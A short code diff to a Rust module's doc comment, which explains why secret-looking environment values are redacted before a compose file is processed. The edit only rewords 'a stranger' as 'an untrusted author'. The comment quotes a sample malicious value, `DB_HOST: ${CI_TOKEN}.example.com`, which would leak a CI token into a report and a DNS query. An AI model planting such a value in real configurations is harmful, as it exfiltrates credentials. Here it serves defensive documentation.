@@ -1,7 +1,7 @@
 //! Values that may be secrets of whoever runs the command, rather than of the project: those of the process' environment, and of files
 //! that lie outside of the project. What looks like a secret in them is replaced before anything is made of it. Pure.
 //!
-//! The text of a compose file may come from a stranger (a pull request): without this, `DB_HOST: ${CI_TOKEN}.example.com` would put the
+//! The text of a compose file may come from an untrusted author (a pull request): without this, `DB_HOST: ${CI_TOKEN}.example.com` would put the
 //! token into a report and into a DNS query.
 
 use super::model::EnvironmentValue;
